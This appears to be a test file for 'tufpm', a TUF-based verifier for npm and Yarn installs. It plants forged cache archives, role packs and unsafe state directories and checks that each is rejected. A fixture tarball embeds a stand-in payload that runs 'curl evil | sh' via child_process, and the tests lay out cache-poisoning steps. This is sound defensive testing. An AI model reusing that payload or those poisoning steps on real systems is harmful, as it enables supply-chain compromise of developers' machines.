import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { chmod, cp, mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { basename, dirname, join } from 'node:path';
import { parseRolePack, serializeRolePack } from '@tufpm/client';
import { buildPackageTarball } from '@tufpm/registry';
import { NpmWorld, type CliResult, type Project } from '../src/harness/npm-world.js';
import { YarnProject } from '../src/harness/yarn.js';

// The machine's local trust boundary (ADR 0011, issue 15): an attacker who can write the package caches
// (Yarn's global folder, the npm cache, a restored CI cache archive) but not the project or the tufpm state
// directory. What decides acceptance (Yarn bindings, verification records, trusted metadata) lives in the
// state directory (`<HOME>/.local/state/tufpm` here), and every record that stands in for a check is sealed
// with the machine's key to the exact bytes it vouches for. Each test plants the forgery both where tufpm
// used to keep that state (inside the cache) and, its record kept, in the state directory itself.

const evilTarball = (name: string, version: string): Uint8Array =>
  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });

const hex = (algorithm: string, bytes: Uint8Array): string => createHash(algorithm).update(bytes).digest('hex');

/** Files named `name` below `dir`, relative to it. */
async function find(dir: string, name: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true })).filter((f) => basename(f) === name);
}

const stateDirOf = (machine: string): string => join(machine, '.local', 'state', 'tufpm');

describe('the local trust boundary: package caches cannot forge what decides acceptance', () => {
  let world: NpmWorld;
  const maintainers = [NpmWorld.maintainer(), NpmWorld.maintainer()];

  before(async () => {
    world = await NpmWorld.create();
    await world.publish('right', '1.0.0');
    for (const name of ['ysealed', 'nsealed']) {
      await world.claim(name, maintainers, 2);
      await world.publish(name, '1.0.0', {}, maintainers.map((m) => m.signer));
    }
  });
  after(() => world.close());

  test('rejects a poisoned Yarn cache archive whose binding was forged in the global folder', async () => {
    const rc = { enableGlobalCache: true };
    const first = await YarnProject.create(world, { ysealed: '1.0.0' }, { rc });
    assert.equal((await first.yarn(['install'])).code, 0, 'global cache install');
    const file = (await readdir(first.cacheFolder)).find((f) => f.startsWith('ysealed-npm-1.0.0-') && f.endsWith('.zip'));
    assert.ok(file);
    const cached = join(first.cacheFolder, file);
    const genuineSum = await YarnProject.checksumOf(cached);
    const zip = await readFile(cached);
    const at = zip.indexOf('module.exports');
    assert.ok(at > 0, 'stored archive holds the code in clear');
    const evil = Buffer.from(zip);
    evil.write('process.exit(66);//', at, 'latin1');
    await writeFile(cached, evil);
    const evilSum = await YarnProject.checksumOf(cached);

    // The binding this machine made, now in the state directory (not in Yarn's global folder).
    const state = stateDirOf(first.machine);
    const [bindingsFile, ...more] = await find(state, 'yarn-bindings.json');
    assert.ok(bindingsFile !== undefined && more.length === 0, 'one bindings file, in the tufpm state directory');
    assert.deepEqual(await find(join(first.machine, 'global'), 'yarn-bindings.json'), [], 'nothing of tufpm in Yarn\'s global folder');
    const doc = JSON.parse(await readFile(join(state, bindingsFile), 'utf8')) as { bindings: Record<string, { sha512: string; checksum: string; mac: string }> };
    const key = Object.keys(doc.bindings).find((k) => k.startsWith('ysealed@'))!;
    assert.equal(doc.bindings[key]!.checksum, genuineSum, 'the binding names the genuine archive');
    // The attack of issue 15: the binding's checksum edited to the poisoned zip's. Where tufpm used to keep
    // it (<globalFolder>/tuf/<registry>/), in its old format...
    const oldPlace = join(first.machine, 'global', 'tuf', basename(dirname(bindingsFile)), 'yarn-bindings.json');
    await mkdir(dirname(oldPlace), { recursive: true });
    await writeFile(oldPlace, JSON.stringify({ version: 1, bindings: { [key]: { sha512: doc.bindings[key]!.sha512, checksum: evilSum } } }));
    // ...and in the state directory itself, its seal kept (an attacker cannot compute one without the key).
    doc.bindings[key]!.checksum = evilSum;
    await writeFile(join(state, bindingsFile), JSON.stringify(doc));

    const second = await YarnProject.create(world, { ysealed: '1.0.0' }, { rc, machine: first.machine });
    const before = await second.state();
    const res = await second.yarn(['install']);
    assert.equal(res.code, 1, res.stdout);
    assert.match(res.stdout, /TUF_CHECKSUM_BINDING/);
    assert.match(res.stdout, /package ysealed@1\.0\.0/);
    assert.doesNotMatch(res.stdout, /Internal Error|\n\s+at /, 'a coded report, not a crash');
    assert.deepEqual(await second.state(), before, 'nothing installed, nothing pinned');
  });

  test('rejects a forged role in the npm cache whose verification record was kept', async () => {
    const first = await world.project();
    assert.equal((await first.tufpmNpm(['install', 'nsealed@1.0.0'])).code, 0);
    const state = stateDirOf(first.machine);
    const [packFile, ...more] = await find(state, 'delegated-roles.pack');
    assert.ok(packFile !== undefined && more.length === 0, 'one pack, in the tufpm state directory');
    assert.deepEqual(await find(join(first.machine, '.npm'), 'delegated-roles.pack'), [], 'nothing of tufpm in the npm cache');

    // The attack of issue 15: the claimed role's bytes name a forged tarball (new length and sha512; the
    // maintainers' signatures no longer match), the entry's verification record and the pack's seal are
    // kept, and the forged tarball is put into _cacache under its own integrity.
    const evil = evilTarball('nsealed', '1.0.0');
    const pack = parseRolePack(await readFile(join(state, packFile)), 1 << 26)!;
    const roles = pack.roles;
    const entry = roles.get('nsealed')!;
    assert.ok(entry.digest !== undefined && pack.seal !== undefined, 'the role was packed with a verification record, under the pack\'s seal');
    const role = JSON.parse(Buffer.from(entry.bytes).toString('utf8'));
    const target = role.signed.targets['nsealed/-/nsealed-1.0.0.tgz'];
    const genuineSha512 = target.hashes.sha512 as string;
    target.length = evil.length;
    target.hashes = { ...target.hashes, sha512: hex('sha512', evil), ...(target.hashes.sha256 ? { sha256: hex('sha256', evil) } : {}) };
    roles.set('nsealed', { bytes: Buffer.from(JSON.stringify(role)), digest: entry.digest });
    // Without the machine key no seal can be made: the genuine seal is copied over the new body (the header
    // is the 18-byte magic, the seal's length, then the seal).
    const forged = Buffer.from(serializeRolePack(roles, randomBytes(32)));
    forged.set(pack.seal, 19);
    await writeFile(join(state, packFile), forged);
    // Also planted where tufpm-npm used to keep its TUF cache (<cache>/_tufpm/<repository>/).
    await cp(dirname(join(state, packFile)), join(first.machine, '.npm', '_tufpm', basename(dirname(packFile))), { recursive: true });
    const content = (sha512: string): string => join(first.machine, '.npm', '_cacache', 'content-v2', 'sha512', sha512.slice(0, 2), sha512.slice(2, 4), sha512.slice(4));
    await mkdir(dirname(content(hex('sha512', evil))), { recursive: true });
    await writeFile(content(hex('sha512', evil)), evil);
    // The genuine tarball is gone from the cache and the network serves the forged one: re-verifying the
    // role is not enough to install anything, the signed (genuine) hash must refuse it.
    await rm(content(genuineSha512));
    await world.replaceTarball('nsealed', '1.0.0', evil);

    const second = await world.project();
    second.machine = first.machine;
    const before = await second.state();
    const res: CliResult = await second.tufpmNpm(['install', 'nsealed@1.0.0']);
    assert.equal(res.code, 1, `exit code 1 expected\n${res.stdout}${res.stderr}`);
    assert.match(res.stderr, /TUF_TARBALL_MISMATCH/);
    assert.match(res.stderr, /package: nsealed@1\.0\.0/);
    assert.deepEqual(await second.state(), before, 'nothing installed, nothing pinned (so not pinned as maintainer-signed)');
  });

  test('tufpm-npm refuses a state directory writable by others, saying how to repair it', async () => {
    const project: Project = await world.project();
    const state = stateDirOf(project.machine);
    await mkdir(state, { recursive: true });
    await chmod(state, 0o777);
    const before = await project.state();
    const res = await project.tufpmNpm(['install', 'right@1.0.0']);
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /TUF_STATE_DIR_UNSAFE/);
    assert.match(res.stderr, /is writable by others \(mode 777\)/);
    assert.match(res.stderr, /chmod 700/);
    assert.deepEqual(await project.state(), before);
    // The same directory, made private again, is used.
    await chmod(state, 0o700);
    assert.equal((await project.tufpmNpm(['install', 'right@1.0.0'])).code, 0);
  });

  test('Yarn refuses a tufStateFolder inside its global folder or writable by others', async () => {
    const project = await YarnProject.create(world, { right: '1.0.0' });
    await project.writeRc({ tufStateFolder: join(project.machine, 'global', 'tufpm') });
    const before = await project.state();
    const inside = await project.yarn(['install']);
    assert.equal(inside.code, 1, inside.stdout);
    assert.match(inside.stdout, /TUF_STATE_DIR_UNSAFE/);
    assert.match(inside.stdout, /lies inside the package cache/);
    const open = join(project.machine, 'open-state');
    await mkdir(open);
    await chmod(open, 0o777);
    await project.writeRc({ tufStateFolder: open });
    const writable = await project.yarn(['install']);
    assert.equal(writable.code, 1, writable.stdout);
    assert.match(writable.stdout, /TUF_STATE_DIR_UNSAFE.*is writable by others/);
    assert.deepEqual(await project.state(), before);
    await chmod(open, 0o700);
    const ok = await project.yarn(['install']);
    assert.equal(ok.code, 0, ok.stdout);
    assert.equal((await find(open, 'yarn-bindings.json')).length, 1, 'the configured state folder is used');
  });
  test('rejects a state directory inside the project (pull request)', async () => {
    // A pull request moves the state directory into the repository, where it can commit a forged root.json.
    const project: Project = await world.project();
    await writeFile(join(project.dir, '.npmrc'), 'tufpm-state-dir=.tufpm-state\n');
    const before = await project.state();
    const res = await project.tufpmNpm(['install', 'right@1.0.0']);
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /TUF_STATE_DIR_UNSAFE/);
    assert.match(res.stderr, /inside the project/);
    assert.deepEqual(await project.state(), before, 'nothing installed, nothing created in the project');

    const yarnProject = await YarnProject.create(world, { right: '1.0.0' });
    await yarnProject.writeRc({ tufStateFolder: join(yarnProject.dir, '.tufpm-state') });
    const yarnBefore = await yarnProject.state();
    const yarnRes = await yarnProject.yarn(['install']);
    assert.equal(yarnRes.code, 1, yarnRes.stdout);
    assert.match(yarnRes.stdout, /TUF_STATE_DIR_UNSAFE.*inside the project/);
    assert.deepEqual(await yarnProject.state(), yarnBefore);
  });

  test('rejects a state directory that resolves through a symlink into the package cache', async () => {
    const project: Project = await world.project();
    const inCache = join(project.machine, '.npm', 'x');
    await mkdir(inCache, { recursive: true, mode: 0o700 });
    // the configured path, and the default ~/.local/state/tufpm, as symlinks into the npm cache
    await symlink(inCache, join(project.machine, 'state-link'));
    await mkdir(join(project.machine, '.local', 'state'), { recursive: true });
    await symlink(inCache, stateDirOf(project.machine));
    const before = await project.state();
    const envs: Array<Record<string, string>> = [{ npm_config_tufpm_state_dir: join(project.machine, "state-link") }, {}];
    for (const env of envs) {
      const res = await project.tufpmNpm(['install', 'right@1.0.0'], env);
      assert.equal(res.code, 1, res.stderr);
      assert.match(res.stderr, /TUF_STATE_DIR_UNSAFE/);
      assert.match(res.stderr, /resolves to .*inside the package cache/);
      assert.deepEqual(await project.state(), before);
    }
    assert.deepEqual(await readdir(inCache), [], 'nothing written into the npm cache');
  });

  test('rejects a state file writable by others', async () => {
    const project: Project = await world.project();
    assert.equal((await project.tufpmNpm(['install', 'right@1.0.0'])).code, 0);
    const state = stateDirOf(project.machine);
    const [rootFile] = await find(state, 'root.json');
    assert.ok(rootFile !== undefined);
    // The top directory stays 0700; a file (and the directory holding it) below it is opened to others.
    await chmod(join(state, rootFile), 0o666);
    const before = await project.state();
    const res = await project.tufpmNpm(['install', 'right@1.0.0']);
    assert.equal(res.code, 1, res.stderr);
    assert.match(res.stderr, /TUF_STATE_DIR_UNSAFE/);
    assert.match(res.stderr, /root\.json, which is writable by others \(mode 666\)/);
    assert.deepEqual(await project.state(), before);
    await chmod(join(state, rootFile), 0o600);
    await chmod(join(state, dirname(rootFile)), 0o777);
    const dirRes = await project.tufpmNpm(['install', 'right@1.0.0']);
    assert.equal(dirRes.code, 1, dirRes.stderr);
    assert.match(dirRes.stderr, /TUF_STATE_DIR_UNSAFE/);
    await chmod(join(state, dirname(rootFile)), 0o700);
    assert.equal((await project.tufpmNpm(['install', 'right@1.0.0'])).code, 0, 'private again: used');
  });
});
